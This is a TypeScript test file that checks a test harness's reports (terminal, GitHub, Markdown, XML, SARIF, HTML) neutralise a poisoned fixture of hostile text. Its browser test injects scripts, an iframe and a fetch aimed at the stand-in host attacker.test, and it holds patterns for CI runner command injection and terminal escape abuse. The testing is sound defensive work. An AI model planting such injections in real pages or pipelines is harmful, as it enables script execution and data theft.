/** Output is data: hostile text goes through every output and is read back by what people and machines read it with. */
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, relative } from 'node:path'
import { PassThrough } from 'node:stream'
import { pathToFileURL } from 'node:url'
import { stripVTControlCharacters } from 'node:util'
import xterm from '@xterm/headless'
import { micromark } from 'micromark'
import { gfm, gfmHtml } from 'micromark-extension-gfm'
import type { Browser, Page } from 'playwright-core'
import { SaxesParser } from 'saxes'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { inWords } from '../harness/cli/contract.ts'
import { explainText } from '../harness/cli/explain.ts'
import { listText } from '../harness/cli/list.ts'
import { print, printJson } from '../harness/cli/print.ts'
import { terminalProgress } from '../harness/cli/progress.ts'
import { listed } from '../harness/cli/project.ts'
import { attemptText } from '../harness/cli/replay.ts'
import { summary } from '../harness/cli/summary.ts'
import { compareRuns } from '../harness/report/compare.ts'
import { comparisonText } from '../harness/report/comparison-words.ts'
import { annotations, tellGithub } from '../harness/report/github.ts'
import { recordOf } from '../harness/report/history.ts'
import { casePath, cellLink, environmentPath } from '../harness/report/html/links.ts'
import { overviewOf } from '../harness/report/overview.ts'
import { aPoisonedRun, hostile } from '../harness/report/poisoned-run.fixture.ts'
import { readReport } from '../harness/report/read.ts'
import { visible } from '../harness/report/visible.ts'
import { writeReport } from '../harness/report/write.ts'
import { findChromium, launchChromium } from './chromium.testing.ts'

const run = aPoisonedRun()
const comparison = compareRuns(undefined, recordOf(run.results))
let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'conformance-hostile-'))
  await writeReport(run.results, run.evidence, folder, {
    history: [{ ...recordOf(run.results), run: `before${hostile}` }],
  })
})
afterAll(() => rm(folder, { recursive: true, force: true }))
const file = (name: string) => readFile(join(folder, name), 'utf8')

/** What GitHub's and Azure's runners take for a command: `::name …::` after white space, `##[name]` and `##vso[name]` anywhere. */
const obeyed = (text: string) =>
  text.split(/\r\n|\n|\r/).filter((line) => /^\s*::.*::/.test(line) || /##\w*\[/.test(line))

/** What `console.log` gets. */
function printed(work: () => void): string {
  const lines: string[] = []
  const log = vi.spyOn(console, 'log').mockImplementation((text: string) => void lines.push(text))
  try {
    work()
  } finally {
    log.mockRestore()
  }
  return lines.join('\n')
}

/** The progress of steps and notes, on something that is no terminal, or on one. */
async function progressed(isTTY: boolean): Promise<string> {
  const stream = new PassThrough()
  const terminal: NodeJS.WriteStream = Object.assign(Object.create(process.stderr), {
    isTTY,
    columns: 400,
    write: (text: string) => stream.write(text),
  })
  using progress = terminalProgress(terminal)
  progress.note(hostile)
  progress.status(hostile)
  await progress.step(hostile, async (detail) => detail(hostile))
  progress.status('')
  return String(stream.read())
}

describe('a terminal', async () => {
  const all = await listed()
  const [one] = all.catalogue.cases
  if (one === undefined) throw new Error('There is no case.')
  const bad = {
    ...one,
    id: `x.y.z${hostile}`,
    title: hostile,
    why: hostile,
    refs: [hostile],
    caughtBy: [hostile],
    controls: [hostile],
  }
  const scenario = { id: hostile, title: hostile, why: hostile, file: bad.source.file, cases: 1 }
  const catalogue = { ...all.catalogue, cases: [bad], scenarios: [scenario] }
  const poisonedList = { ...all, catalogue, mutants: [{ name: hostile, mistake: hostile }] }
  const attempt = Object.values(run.evidence).flatMap((cells) => Object.values(cells))[0]?.attempts[0]
  if (attempt === undefined) throw new Error('The fixture has no attempt.')
  const row = { id: hostile, expected: hostile, heard: hostile, detail: hostile }
  const outputs: readonly (readonly [string, () => Promise<string> | string])[] = [
    ['the summary of a run', () => printed(() => console.log(summary(run.results, folder)))],
    ['a comparison', () => printed(() => print(comparisonText(comparison)))],
    [
      'list',
      () =>
        printed(() =>
          print(
            listText('cases', poisonedList) + listText('mutants', poisonedList) + listText('scenarios', poisonedList),
          ),
        ),
    ],
    ['explain', () => printed(() => print(explainText(bad.id, poisonedList)))],
    ['replay', () => printed(() => print(attemptText(attempt, 1, 1)))],
    ['contract', () => printed(() => print(inWords({ program: hostile, rows: [row], broken: [[hostile, hostile]] })))],
    ['results as JSON', () => printed(() => printJson(run.results))],
    ['progress', () => progressed(false)],
  ]

  it.each(outputs)('shows %s as text, and does nothing else', async (_, output) => {
    const text = await output()
    expect(text).toContain('ATTACK')
    const did = await shownBy(text)
    expect(did.events).toEqual([])
    // Nothing moved the cursor or cleared anything: what stands there is what was written, line by line.
    expect(did.lines.join('\n')).toBe(
      stripVTControlCharacters(text)
        .replace(/[ \t]+$/gm, '')
        .trimEnd(),
    )
    expect(obeyed(text)).toEqual([])
  })

  it('is live for progress, and nothing but our own line is replaced', async () => {
    const did = await shownBy(await progressed(true))
    expect(did.events).toEqual([])
    expect(did.lines.filter((line) => line.includes('overwritten')).length).toBeGreaterThan(1)
  })

  it('would do otherwise with the same text as it is', async () => {
    const did = await shownBy(hostile)
    expect(new Set(did.events)).toEqual(new Set(['title', 'bell', 'clipboard', 'link']))
    expect(obeyed(hostile)).toHaveLength(6)
  })
})

/** What xterm makes of it: its lines, and what else it was asked to do. */
async function shownBy(
  text: string,
): Promise<{ readonly lines: readonly string[]; readonly events: readonly string[] }> {
  const terminal = new xterm.Terminal({
    cols: 20_000,
    rows: 10,
    scrollback: 100_000,
    convertEol: true,
    allowProposedApi: true,
    tabStopWidth: 1,
  })
  const events: string[] = []
  terminal.onTitleChange(() => events.push('title'))
  terminal.onBell(() => events.push('bell'))
  for (const [code, name] of [
    [52, 'clipboard'],
    [8, 'link'],
  ] as const)
    terminal.parser.registerOscHandler(code, () => {
      events.push(name)
      return true
    })
  await new Promise<void>((resolve) => terminal.write(text, resolve))
  const { active } = terminal.buffer
  const lines = Array.from(
    { length: active.length },
    (_, at) => active.getLine(at)?.translateToString(true).trimEnd() ?? '',
  )
  terminal.dispose()
  return { lines: lines.slice(0, lines.findLastIndex((line) => line !== '') + 1), events }
}

describe('GitHub', () => {
  it('gets one command per annotation, and no other', () => {
    const lines = annotations(run.results)
    expect(lines.length).toBeGreaterThan(5)
    for (const line of lines) {
      expect(line).toMatch(/^::(error|warning) [^\n\r]*$/)
      expect(line).toMatch(/ATTACK|::\d+ more: see/)
      expect(/[^\P{C}\t]/u.test(line)).toBe(false)
    }
  })

  it('gets a job summary whose comparison stays in its block', async () => {
    const summaryFile = join(folder, 'job-summary.md')
    await tellGithub(run.results, folder, { environment: { GITHUB_STEP_SUMMARY: summaryFile }, comparison })
    const page = await file('job-summary.md')
    await rm(summaryFile)
    expect(objectionsTo(rendered(page))).toEqual([])
  })
})

const rendered = (page: string) =>
  micromark(page, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] })

const tagsOfOurs = new Set(
  'h1 h2 p strong em br blockquote ul li code pre table thead tbody tr th td details summary sub a'.split(' '),
)

/** Elements that we do not write, links that are not ours, and what GitHub would take for a mention or a reference. */
function objectionsTo(html: string): string[] {
  const objections: string[] = []
  for (const [tag, name = ''] of html.matchAll(/<\/?([a-z][\w-]*)[^>]*>/gi)) {
    if (!tagsOfOurs.has(name)) objections.push(tag)
    const href = /href="([^"]*)"/.exec(tag)?.[1]
    if (href !== undefined && !/^https:\/\/(docs\.)?example\.test\//.test(href)) objections.push(tag)
    if (/\son\w+=/.test(tag)) objections.push(tag)
  }
  const texts = html.replace(/<(code|pre)[\s\S]*?<\/\1>/g, '').split(/<!--[\s\S]*?-->|<[^>]*>/)
  for (const text of texts) objections.push(...(text.match(/(^|\W)(@\w+|#\d+|GH-\d+)|https?:\/\/\S+|www\.\S+/g) ?? []))
  if ((html.match(/<h1/g)?.length ?? 0) !== 1) objections.push('more than one title')
  return objections
}

describe('a Markdown renderer', () => {
  it('finds in report.md no mark-up, link, mention or reference of the attacker’s', async () => {
    const html = rendered(await file('report.md'))
    expect(html).toContain('ATTACK')
    expect(html.match(/<table>/g)?.length).toBeGreaterThan(2)
    expect(objectionsTo(html)).toEqual([])
  })
  it('would find them in the text as it is', () => {
    expect(objectionsTo(rendered(`# title\n\n${hostile}`)).length).toBeGreaterThanOrEqual(3)
  })
})

describe('an XML parser', () => {
  it('takes junit.xml for what it is, and gets every reason back as text', async () => {
    const found: Record<string, number> = {}
    const messages: string[] = []
    const parser = new SaxesParser()
    parser.on('error', (error) => {
      throw error
    })
    parser.on('opentag', ({ name, attributes }) => {
      found[name] = (found[name] ?? 0) + 1
      if (attributes.message !== undefined) messages.push(attributes.message)
    })
    parser.write(await file('junit.xml')).close()
    expect(Object.keys(found).toSorted()).toEqual([
      'error',
      'failure',
      'skipped',
      'system-out',
      'testcase',
      'testsuite',
      'testsuites',
    ])
    expect(found.testcase).toBe(run.results.cells.length + run.results.environments.length)
    for (const cell of run.results.cells.filter(({ status }) => status === 'fail'))
      expect(messages).toContain(visible(cell.reason))
  })
})

describe('a program that reads JSON', () => {
  it('gets what was seen unchanged, from files that are safe to print', async () => {
    const back = await readReport(folder)
    expect(back.results).toEqual(run.results)
    expect(back.evidence).toEqual(
      Object.fromEntries(Object.entries(run.evidence).filter(([id]) => id in back.evidence)),
    )
    for (const name of ['results.json', 'results.sarif', 'badge.json']) {
      const text = await file(name)
      expect(/[^\P{C}\n]/u.test(text), name).toBe(false)
      expect(obeyed(text), name).toEqual([])
    }
  })

  it('finds no link of the attacker’s in results.sarif', async () => {
    const messages: string[] = []
    JSON.parse(await file('results.sarif'), (key, value: unknown) => {
      if ((key === 'text' || key === 'justification') && typeof value === 'string') messages.push(value)
      return value
    })
    expect(messages.length).toBeGreaterThan(50)
    for (const message of messages) expect(message).not.toMatch(/\]\(/)
  })
})

describe('a file system', () => {
  it('gets names of plain characters, all inside the report', async () => {
    const entries = await readdir(folder, { recursive: true, withFileTypes: true })
    const names = entries.map((entry) => relative(folder, join(entry.parentPath, entry.name)))
    expect(names.length).toBeGreaterThan(40)
    for (const name of names) expect(name).toMatch(/^[\w@.-]{1,200}(\/[\w@.-]{1,200}){0,4}$/)
  })
})

const executable = await findChromium()
if (executable === undefined)
  console.warn(
    'SKIPPED: the report in a browser, with hostile text. No Chromium on PATH; install one or say where it is with CHROMIUM=…',
  )

/** Ours, and the data that it reads. */
const scriptsOf = (page: string) =>
  page === 'index.html' || page.startsWith('proxy/') ? 2 : page.startsWith('guides/') ? 1 : 0

describe.skipIf(executable === undefined)('a browser', { timeout: 60_000 }, () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await launchChromium(executable ?? '')
  })
  afterAll(() => browser?.close())
  const cell = run.results.cells.find(({ status }) => status === 'fail')
  const other = run.results.cells.find((one) => one.status === 'known-failure')
  if (cell === undefined || other === undefined) throw new Error('The fixture has no such cell.')
  const pages = [
    ['index', 'index.html'],
    ['case', casePath(cell.case)],
    ['environment', environmentPath(overviewOf(run.results, run.evidence), cell.environment)],
    ['failed cell', cellLink(overviewOf(run.results, run.evidence), cell)],
    ['cell with a known failure', cellLink(overviewOf(run.results, run.evidence), other)],
  ] as const

  /** Opens a page and notes every request, dialog and complaint that is not the page's own. */
  async function opened(name: string, read: (page: Page, noted: string[]) => Promise<void>): Promise<void> {
    await using context = await browser.newContext()
    const page = await context.newPage()
    const noted: string[] = []
    const inside = pathToFileURL(folder).href
    // Chromium tells of a request that the page's policy stops as one that failed for that reason.
    page.on('requestfailed', (request) => noted.push(`not sent (${request.failure()?.errorText}): ${request.url()}`))
    page.on('requestfinished', (request) => request.url().startsWith(inside) || noted.push(`sent: ${request.url()}`))
    page.on('dialog', (dialog) => {
      noted.push('dialog')
      void dialog.dismiss()
    })
    page.on('console', (message) => noted.push(message.text()))
    page.on('pageerror', (error) => noted.push(error.message))
    const [path = '', cell] = name.split('#')
    await page.goto(`${pathToFileURL(join(folder, path)).href}${cell === undefined ? '' : `#${cell}`}`)
    if (cell !== undefined) await page.locator('#cell').waitFor()
    await read(page, noted)
  }

  it.each(pages)('shows text and runs nothing: %s', async (_, name) => {
    await opened(name, async (page, noted) => {
      const body = (await page.locator('body').textContent()) ?? ''
      expect(body).toContain('ATTACK')
      expect(/[^\P{C}\n\t]/u.test(body)).toBe(false)
      expect(await page.evaluate('document.scripts.length')).toBe(scriptsOf(name))
      expect(
        await page.evaluate(
          'document.querySelectorAll("img,svg,iframe,object,embed,style,link:not([rel=stylesheet])").length',
        ),
      ).toBe(0)
      expect(
        await page.evaluate(
          '[...document.querySelectorAll("*")].flatMap(e => [...e.attributes]).filter(a => /^on/.test(a.name)).length',
        ),
      ).toBe(0)
      const hrefs: string[] = await page.evaluate('[...document.links].map(a => a.href)')
      for (const href of hrefs)
        expect(href).toMatch(/^(file:|https:\/\/(docs\.)?example\.test\/|https:\/\/www\.rfc-editor\.org\/)/)
      expect(await page.evaluate('window.owned')).toBeUndefined()
      expect(noted).toEqual([])
    })
  })

  it.each(pages)('would not run, load or send anything that got past the escaping: %s', async (_, name) => {
    await opened(name, async (page, noted) => {
      await page.evaluate(`
        const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set))
        add('script', { textContent: 'window.owned = 1' })
        add('script', { src: 'https://attacker.test/x.js' })
        add('img', { src: 'https://attacker.test/x.png' })
        add('iframe', { src: 'https://attacker.test/' })
        document.body.insertAdjacentHTML('beforeend', '<b onclick="window.owned = 2" id="b">b</b>')
        document.getElementById('b').click()
      `)
      await page.evaluate('fetch("https://attacker.test/").catch(() => {})')
      expect(await page.evaluate('window.owned')).toBeUndefined()
      const requests = noted.filter((one) => /^(not )?sent/.test(one))
      expect(requests.filter((one) => !one.startsWith('not sent (csp): '))).toEqual([])
      await expect
        .poll(() => noted.filter((one) => one.includes('Content Security Policy')).length)
        .toBeGreaterThanOrEqual(5)
    })
  })
})
